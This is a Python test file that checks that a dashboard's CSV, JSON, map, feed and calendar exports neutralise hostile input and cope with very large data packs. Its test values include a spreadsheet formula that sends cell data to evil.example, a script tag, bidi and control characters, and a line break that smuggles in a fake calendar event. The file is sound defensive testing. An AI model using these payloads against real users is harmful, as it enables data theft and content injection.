"""Packs made to do harm: formulas, markup, writing that turns round, and far too many rows."""

import csv
import io
import json
from pathlib import Path
from xml.etree import ElementTree as Xml

import feedparser
import geopandas as gpd
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from icalendar import Calendar
from publish.checked import checked
from samples import PackCopy, day

from dashboard.paths import ASSETS, BOUNDARIES
from dashboard.publish.calendar_file import calendar_file
from dashboard.publish.export import export_data
from dashboard.publish.feed import feed_file
from dashboard.publish.geometry import Geometry
from dashboard.publish.spreadsheet import unguarded
from dashboard.publish.takeaway import Takeaway
from dashboard.publish.tokens import light_colours
from dashboard.record.ledger import Ledger
from dashboard.record.models import Event
from dashboard.record.pack import Pack
from dashboard.record.plain import plain
from dashboard.story.frames import build_frames

FORMULA = '=HYPERLINK("https://evil.example/?"&A1;"Finland")'
MARKUP = "<script>alert('4711')</script> & <!-- ]]> \"quoted\""
TURNED = "\u202eabc\u202c \u2066left\u2069 \u200f\u061c"
CONTROL = "a\x01b\x0bc\x1bd\x85e\ufffe"
LINES = "one\r\nBEGIN:VEVENT\nUID:evil"
HARM = [FORMULA, "+1", "-1+1", "@SUM(1)", MARKUP, TURNED, CONTROL, LINES, "'=1", "a\\,b;c:d"]
NOTICE = "fin-2025-07-10-notification"


def taken(pack: PackCopy) -> Takeaway:
    ledger = Ledger(pack.read())
    geometry, colours = Geometry.read(ledger, BOUNDARIES), light_colours(ASSETS / "tokens.css")
    return Takeaway(ledger, build_frames(ledger), geometry, "", colours)


@pytest.fixture(scope="module", params=HARM, ids=ascii)
def harm(request: pytest.FixtureRequest) -> str:
    text: str = request.param
    return text


@pytest.fixture(scope="module")
def harmed(harm: str, tmp_path_factory: pytest.TempPathFactory) -> Takeaway:
    """Harm wherever the loader takes any text."""
    pack = PackCopy(tmp_path_factory.mktemp("harmed"))
    pack.edit("states.csv", "FIN", name=harm, note=harm, nato_note=harm)
    pack.edit("events.csv", NOTICE, title=harm, detail=harm, effect_note=harm)
    quote, claim = pack.records("quotes.csv")[1][0], pack.records("claims.csv")[1][0]
    pack.edit("quotes.csv", quote, quote=harm, speaker=harm, role=harm, note=harm)
    pack.edit("sources.csv", "untc-xxvi-5", publisher=harm, title=harm, note=harm)
    pack.edit("claims.csv", claim, words=harm, value=harm, record=harm, reason=harm)
    pack.edit("borders.csv", "FIN", note=harm)
    return taken(pack)


def test_no_cell_runs_and_every_word_is_there(harmed: Takeaway, harm: str) -> None:
    seen = 0
    for name in harmed.names:
        if name.endswith(".csv"):
            content = harmed.file(name).decode("utf-8-sig")
            for row in csv.reader(io.StringIO(content, newline=""), strict=True):
                for cell in row:
                    assert not cell.startswith(("=", "+", "-", "@", "\t", "\r", "\n")), name
                    seen += unguarded(cell) == plain(harm)
    assert seen >= 15


def test_json_and_maps_hold_the_very_words(harmed: Takeaway, harm: str, tmp_path: Path) -> None:
    quotes = json.loads(harmed.file("quotes.json"))
    assert quotes[0]["quote"] == plain(harm)
    assert json.loads(harmed.standing(day("2025-12-27"), "json"))["states"][2]["name"] == plain(
        harm
    )
    for name, layer in (("standing/latest.geojson", None), ("flankwatch.gpkg", "states")):
        path = tmp_path / name.replace("/", "-")
        path.write_bytes(harmed.file(name))
        read = gpd.read_file(path, layer=layer) if layer else gpd.read_file(path)
        assert read.set_index("iso_a3").loc["FIN", "name"] == plain(harm)


def test_a_feed_stays_a_feed_and_carries_no_markup_of_others(harmed: Takeaway) -> None:
    content = harmed.file("feed.atom")
    assert Xml.fromstring(content).tag == "{http://www.w3.org/2005/Atom}feed"
    feed = feedparser.parse(content, sanitize_html=False)
    assert not feed.bozo
    assert len(feed.entries) == 41
    for entry in feed.entries:
        assert "<script" not in entry.content[0].value
        assert "<!--" not in entry.content[0].value


@pytest.fixture(scope="module")
def usual(takeaway: Takeaway) -> list[str]:
    """The UIDs of the calendar without harm."""
    entries = Calendar.from_ical(takeaway.file("dates.ics")).walk("VEVENT")
    return [entry["UID"] for entry in entries]


def test_a_calendar_stays_a_calendar(harmed: Takeaway, harm: str, usual: list[str]) -> None:
    content = harmed.file("dates.ics")
    assert not set(content) & {*range(0x00, 0x0A), 0x0B, 0x0C, *range(0x0E, 0x20), 0x7F}
    entries = Calendar.from_ical(content).walk("VEVENT")
    assert [entry["UID"] for entry in entries] == usual
    [notice] = [entry for entry in entries if entry["UID"].startswith(f"{NOTICE}@")]
    if harm not in (CONTROL, LINES):
        assert notice["SUMMARY"] == plain(harm)


def test_the_description_still_holds(harmed: Takeaway, tmp_path: Path) -> None:
    export_data(harmed, {}, tmp_path / "site")
    assert checked(tmp_path / "site" / "data").flatten() == []


@settings(max_examples=60, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(words=st.text(st.characters(exclude_characters="\0", exclude_categories=["Cs"]), min_size=1))
def test_no_words_break_calendar_or_feed(ledger: Ledger, words: str) -> None:
    events = [
        event.model_copy(update={"title": words, "detail": words})
        for event in ledger.pack.events
        if event.iso_a3 == "FIN"
    ]
    altered = altered_ledger(ledger.pack, events, words)
    calendar = Calendar.from_ical(calendar_file(altered, ""))
    assert {entry["DTSTART"].dt for entry in calendar.walk("VEVENT")}
    feed = feedparser.parse(feed_file(altered, build_frames(altered), ""))
    assert not feed.bozo


def altered_ledger(pack: Pack, events: list[Event], name: str) -> Ledger:
    finland = pack.states["FIN"].model_copy(update={"name": name})
    sources = {
        id_: source.model_copy(update={"publisher": name}) for id_, source in pack.sources.items()
    }
    states = {**pack.states, "FIN": finland}
    return Ledger(
        Pack(
            pack.treaty,
            states,
            tuple(events),
            pack.quotes,
            sources,
            pack.claims,
            pack.borders,
            pack.names,
        )
    )


def test_five_thousand_quotes_and_ten_thousand_events_are_given_away(pack: PackCopy) -> None:
    pack.grow(quotes=5000, events=10_000)
    takeaway = taken(pack)
    for name in takeaway.names:
        takeaway.file(name)
    assert takeaway.file("quotes.csv").count(b"\r\n") == 5001
    assert takeaway.file("events.csv").count(b"\r\n") == 10_001
    assert takeaway.file("dates.ics").count(b"BEGIN:VEVENT") > 4_800
